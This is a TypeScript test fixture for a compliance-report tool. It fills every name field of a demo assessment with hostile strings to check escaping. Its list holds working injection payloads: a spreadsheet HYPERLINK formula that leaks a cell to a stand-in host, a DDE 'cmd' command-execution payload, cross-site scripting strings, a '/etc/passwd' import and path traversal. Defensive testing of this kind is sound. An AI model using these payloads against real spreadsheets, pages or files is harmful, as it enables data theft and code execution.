import type { Assessment, Finding } from '@ippo/contracts';
import { demoAssessment } from './assessments.ts';

/** Names that a file format, a spreadsheet, a browser or a terminal may take for something else. */
export const hostileNames = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '＝１＋１',
  '</script><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>&amp;&#x3C;script>',
  ']]><!--',
  'javascript:alert(1)',
  '[link](http://evil.example) ![img](x) `code` | pipe | **bold** # head',
  '#set page(fill: red); #import "/etc/passwd"; $x$ @ref <label> \\',
  '\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Bzero\uFEFFwidth',
  'nul\u0000 bell\u0007 esc\u001B[31m vt\u000B us\u001F del\u007F c1\u0085 ls\u2028ps\u2029',
  '𠮷野家 😀 👩‍👩‍👧‍👦 🇯🇵 𝒜',
  'lone\uD800surrogate\uDC00 \uFFFE\uFFFF',
  'quotes " \' ` “ ” « » \\" \\\' ,;| end',
  'first line\nsecond line\r\nthird line',
  `long-${'x'.repeat(2_043)}`,
  '_x0041_ _x000D_',
  '../../etc/passwd C:\\Windows\\con',
  '',
  ' ',
] as const;

/** The demo report with hostile names everywhere where AWS or a person may put a name. */
export function hostileAssessment(): Assessment {
  const demo = demoAssessment();
  let next = 0;
  const hostile = () => hostileNames[next++ % hostileNames.length] ?? '';
  const worse = (finding: Finding): Finding => ({
    ...finding,
    ...(finding.resource === undefined ? {} : { resource: hostile() }),
    ...(finding.facet === undefined ? {} : { facet: hostile() }),
    reason: {
      ...finding.reason,
      params: Object.fromEntries(
        Object.entries(finding.reason.params).map(([name, value]) =>
          /(?:At|[Rr]egions?|[Cc]hecks?|action|readingReason)$/.test(name) ||
          typeof value === 'number'
            ? [name, value]
            : [name, hostile()],
        ),
      ),
    },
  });
  const name = hostileNames[0];
  const all = hostileNames.join(' ');
  return {
    ...demo,
    made: { ...demo.made, by: hostileNames[7] },
    cover: {
      ...{ period: hostileNames[8], basisDate: '=1+1', preparedBy: hostileNames[12] },
      ...{ approvedBy: hostileNames[13], controlId: hostileNames[11] },
    },
    source: { kind: 'endpoint', url: `http://127.0.0.1:5000/${hostileNames[7]}` },
    ...{ accountName: all.slice(0, 500), organization: name, caller: hostileNames[9] },
    scan: { ...demo.scan, startedBy: hostile() },
    checks: demo.checks.map((check) => ({ ...check, findings: check.findings.map(worse) })),
    exceptions: hostileNames.map((text, index) => ({
      ...exceptionOf(demo, index),
      ...{ reason: text, owner: text, resource: text || null },
      ...{ requested: { by: text, at: '2026-11-05T01:00:00.000Z' } },
    })),
    attestations: demo.attestations.map((answer) => ({ ...answer, by: name, note: all })),
    auditTrail: demo.auditTrail.map((row, index) => {
      const text = hostileNames[index] ?? '';
      return { ...row, actorName: text, subject: text, detail: { [text]: all }, action: text };
    }),
  };
}

function exceptionOf(demo: Assessment, index: number): Assessment['exceptions'][number] {
  const [first] = demo.exceptions;
  if (first === undefined) throw new Error('the demo account accepts a risk');
  const state = demo.exceptions[index % demo.exceptions.length]?.state ?? first.state;
  return { ...first, id: `ex-${index}`, state };
}
